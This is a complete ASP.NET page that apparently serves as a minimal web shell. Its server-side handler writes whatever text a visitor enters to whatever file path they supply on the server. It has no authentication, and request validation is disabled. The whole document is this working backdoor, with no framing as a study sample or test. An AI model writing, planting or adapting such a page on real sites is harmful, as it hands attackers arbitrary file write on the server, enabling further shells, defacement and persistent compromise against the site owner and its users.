<%@ Page Language="C#" ValidateRequest="false" %>
<script runat="server">
    protected void Save_Click(object sender, EventArgs e)
    {
        System.IO.StreamWriter sw = new System.IO.StreamWriter(this.tbPath.Text, false);
        sw.Write(this.tbBody.Text);
        sw.Close();
        msg.Text = "saved";
    }
</script>
<html><body><form runat="server">
<asp:TextBox ID="tbPath" runat="server" /><asp:TextBox ID="tbBody" runat="server" TextMode="MultiLine" />
<asp:Button ID="go" runat="server" OnClick="Save_Click" Text="Save" /><asp:Label ID="msg" runat="server" />
</form></body></html>
